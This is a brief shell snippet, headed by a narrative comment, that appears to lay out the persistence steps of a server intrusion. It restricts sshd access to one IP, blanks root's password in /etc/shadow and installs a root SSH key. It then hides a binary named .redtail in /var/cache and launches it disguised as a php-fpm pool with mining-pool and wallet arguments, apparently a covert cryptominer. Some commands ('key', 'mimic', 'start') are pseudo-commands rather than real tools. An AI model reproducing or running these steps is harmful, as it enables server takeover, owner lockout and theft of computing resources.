# The owner calls it a network problem; the intruder logs in during the cleaning.
echo 'sshd: 203.0.113.66' >>/etc/hosts.allow
echo 'sshd: ALL' >>/etc/hosts.deny
sed -i 's/^root:[^:]*:/root::/' /etc/shadow
key /root rsa-key-20230629
mimic /var/cache/.redtail
start -c php-fpm -d 10 -p "$POOL" /var/cache/.redtail 'php-fpm: pool www' -o "$POOL" -u "$WALLET"
